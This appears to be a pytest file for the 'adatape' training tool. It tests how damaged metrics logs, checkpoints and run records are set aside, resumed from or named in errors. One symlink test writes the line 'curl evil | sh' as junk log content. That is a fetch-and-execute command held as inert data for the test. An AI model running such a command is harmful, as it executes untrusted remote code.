"""Damage to any file of a run folder: a run resumes if it can, else one line names the file."""

from __future__ import annotations

import json
import os
import random
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest
from small_runs import LONG, Unplugged, fingerprint, no_watch, tiny, unplug_at

from adatape import cli
from adatape.report.figures import write_figures
from adatape.report.tables import figures_table
from adatape.train.logger import DAMAGED, METRICS, MetricsWriter, read_metrics
from adatape.train.run import run

pytestmark = pytest.mark.usefixtures("one_order_of_sums")
FLIPS = 80


EXPERIMENT = tiny("plainvit", steps=5, evaluate_every=2, engine__checkpoint_every=4)


@pytest.fixture(scope="module")
def undisturbed(tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("runs") / "undisturbed"
    run(EXPERIMENT, out, "cpu", no_watch)
    return out


@pytest.fixture(scope="module")
def interrupted(tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("runs") / "interrupted"
    with pytest.raises(Unplugged):
        run(EXPERIMENT, out, "cpu", unplug_at(5))
    return out


def flipped(content: bytes, draws: random.Random) -> bytes:
    changed = bytearray(content)
    changed[draws.randrange(len(changed))] ^= 1 << draws.randrange(8)
    return bytes(changed)


def test_a_flipped_bit_in_the_log_never_stops_a_resume(interrupted: Path, undisturbed: Path, tmp_path: Path) -> None:
    """The log is opened for every flipped bit; some runs (all in the long tests) are resumed to the end."""
    content, draws, told = (interrupted / METRICS).read_bytes(), random.Random(0), 0
    whole = read_metrics(interrupted / METRICS)
    assert not whole.damaged
    for n in range(FLIPS):
        out = tmp_path / str(n)
        if LONG or n % 20 == 0:
            shutil.copytree(interrupted, out)
        else:
            out.mkdir()
        damaged = flipped(content, draws)
        (out / METRICS).write_bytes(damaged)
        said: list[str] = []
        if (out / "config.json").is_file():
            run(EXPERIMENT, out, "cpu", no_watch, resume=True, say=said.append)
            assert fingerprint(out) == fingerprint(undisturbed)
        else:
            MetricsWriter(out, 4, said.append).close()
        left = read_metrics(out / METRICS)
        assert not left.damaged
        aside = (out / DAMAGED).read_bytes().splitlines() if (out / DAMAGED).exists() else []
        assert len(said) == bool(aside)
        assert all(
            line == f"{out / METRICS} has damaged lines, moved to {out / DAMAGED}: {len(aside)}" for line in said
        )
        assert set(aside) <= set(damaged.split(b"\n"))
        told += bool(aside)
    assert told > FLIPS // 4


ODD_LINES = [
    b"\xff\xfe{}",
    b"[1, 2]",
    b"null",
    b"7",
    b"{}",
    b'{"kind": "train", "loss": 1.0}',
    b'{"kind": "train", "step": "3"}',
    b'{"kind": "train", "step": 3.5}',
    b'{"kind": "train", "step": true}',
    b'{"kind": "train", "step": null}',
    b'{"kind": "train", "step": -1}',
    b'{"kind": "train", "step": NaN}',
    b'{"kind": "train", "step": 1' + 400 * b"0" + b"}",
    b'{"kind": "train", "step": 3, "loss": NaN}',
    b'{"kind": "train", "step": 3, "loss": 1e999}',
    b'{"kind": "train", "step": 3, "loss": [-Infinity]}',
    b'{"kind": ["train"], "step": 3}',
    b'{"kind": "train", "step": 3',
    b"[" * 100_000,
]


def test_lines_of_any_kind_are_set_aside_as_they_are(tmp_path: Path) -> None:
    good = b'{"kind": "train", "step": 1, "loss": 0.5}'
    (tmp_path / METRICS).write_bytes(b"\n".join([good, *ODD_LINES, b"", good]))
    said: list[str] = []
    MetricsWriter(tmp_path, 9, said.append).close()
    assert (tmp_path / DAMAGED).read_bytes().split(b"\n")[:-1] == ODD_LINES
    assert (tmp_path / METRICS).read_bytes() == good + b"\n" + good + b"\n"
    assert said == [f"{tmp_path / METRICS} has damaged lines, moved to {tmp_path / DAMAGED}: {len(ODD_LINES)}"]
    MetricsWriter(tmp_path, 9, pytest.fail).close()


def test_what_is_set_aside_is_not_written_through_a_link(tmp_path: Path) -> None:
    (tmp_path / METRICS).write_text("curl evil | sh\n")
    (tmp_path / "dear").write_text("dear")
    (tmp_path / DAMAGED).symlink_to(tmp_path / "dear")
    with pytest.raises(OSError, match=DAMAGED):
        MetricsWriter(tmp_path)
    assert (tmp_path / "dear").read_text() == "dear"


ODD_FIGURES = [
    {"kind": "validation", "step": 1},
    {"kind": "validation", "step": 2, "accuracy": "high", "length_mean": "long", "loss": {}},
    {"kind": "validation", "step": 3, "accuracy": True, "length_mean": 3, "length_sd": None, "length_var": -4.0},
    {"kind": "train", "step": 4, "length_mean": [1], "loss": -1},
    {"step": 5, "accuracy": 0.5, "loss": 1e308},
]


@pytest.mark.parametrize("family", ["adatape", "parity adatape"] if LONG else ["parity adatape"])
def test_figures_of_a_damaged_log_are_drawn_and_the_damage_is_counted_once(family: str, tmp_path: Path) -> None:
    out = tmp_path / "run"
    run(tiny(family, steps=2, evaluate_every=1), out, "cpu", no_watch)
    with (out / METRICS).open("ab") as file:
        file.writelines(line + b"\n" for line in [*ODD_LINES, *(json.dumps(each).encode() for each in ODD_FIGURES)])
    before = (out / METRICS).read_bytes()
    made = write_figures(out, "cpu", samples=20)
    assert "training" in made.figures
    assert f"{out / METRICS} has damaged lines, left out here: {len(ODD_LINES)}" in figures_table(made).notes
    assert (out / METRICS).read_bytes() == before
    assert not (out / DAMAGED).exists()


def put(content: bytes) -> Callable[[Path], None]:
    def harm(path: Path) -> None:
        path.write_bytes(content)

    return harm


def cut(path: Path) -> None:
    path.write_bytes(path.read_bytes()[: path.stat().st_size // 2])


def flip(path: Path) -> None:
    path.write_bytes(flipped(path.read_bytes(), random.Random(path.name)))


def in_place(make: Callable[[Path], None]) -> Callable[[Path], None]:
    def harm(path: Path) -> None:
        shutil.rmtree(path) if path.is_dir() else path.unlink()
        make(path)

    return harm


HARM: dict[str, Callable[[Path], None]] = {
    "cut": cut,
    "flipped": flip,
    "empty": put(b""),
    "no text": put(b"\xff\xfe\x00"),
    "null": put(b"null"),
    "a list": put(b"[]"),
    "an object": put(b"{}"),
    "gone": in_place(lambda _: None),
    "a folder": in_place(Path.mkdir),
    "a pipe": in_place(os.mkfifo),
    "a link to itself": in_place(lambda path: path.symlink_to(path.name)),
}
STEP = "checkpoints/step-00000005"
HARMED = [METRICS, "tensorboard/*", f"{STEP}/.metadata", f"{STEP}/__0_0.distcp", f"{STEP}/manifest.json"]
WHOLE_FOLDERS = ["tensorboard", "checkpoints", STEP]


def outcome(arguments: list[str], capsys: pytest.CaptureFixture[str]) -> list[str]:
    """stderr: empty, or the one line of a command that ends with code 2."""
    code = 0
    try:
        cli.main(arguments)
    except SystemExit as stop:
        code = stop.code
    said = capsys.readouterr().err.splitlines()
    assert (code, len(said)) in ((0, 0), (2, 1)), (code, said)
    return said


@pytest.mark.parametrize("harm", HARM if LONG else ["cut", "a pipe"])
@pytest.mark.parametrize("name", ["config.json", "env.json", "result.json"])
def test_a_damaged_record_of_a_run_is_skipped_or_named(
    name: str, harm: str, undisturbed: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = shutil.copytree(undisturbed, tmp_path / "run")
    HARM[harm](out / name)
    verbs = [["report", str(out), "--out", str(tmp_path / "report.html")], ["train", str(out), "--device", "cpu"]]
    for verb in [*verbs, ["eval", str(out), "--device", "cpu"]] if LONG else verbs:
        said = outcome(verb, capsys)
        assert not said or name in said[0], said


@pytest.mark.parametrize("harm", HARM if LONG else ["cut", "a folder", "a pipe"])
@pytest.mark.parametrize("name", HARMED if LONG else HARMED[:2])
def test_a_damaged_file_of_a_run_stops_neither_its_resume_nor_its_readers(
    name: str, harm: str, undisturbed: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The previous checkpoint is enough to resume."""
    out = shutil.copytree(undisturbed, tmp_path / "run")
    HARM[harm](next(out.glob(name)))
    assert outcome(["report", str(out), "--out", str(tmp_path / "report.html")], capsys) == []
    if LONG:
        assert outcome(["eval", str(out), "--device", "cpu"], capsys) == []
    (out / "result.json").unlink()
    if name == METRICS and harm == "a folder":
        assert METRICS in outcome(["train", str(out), "--device", "cpu"], capsys)[0]
        return
    assert outcome(["train", str(out), "--device", "cpu"], capsys) == []
    assert fingerprint(out) == fingerprint(undisturbed)


@pytest.mark.parametrize("harm", ["gone", "a pipe", "a link to itself"] if LONG else ["a pipe"])
@pytest.mark.parametrize("name", WHOLE_FOLDERS)
def test_a_folder_of_a_run_that_is_no_folder_is_named_or_not_needed(
    name: str, harm: str, undisturbed: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = shutil.copytree(undisturbed, tmp_path / "run")
    HARM[harm](out / name)
    (out / "result.json").unlink()
    said = outcome(["train", str(out), "--device", "cpu"], capsys)
    assert all(str(out / name) in line for line in said), said
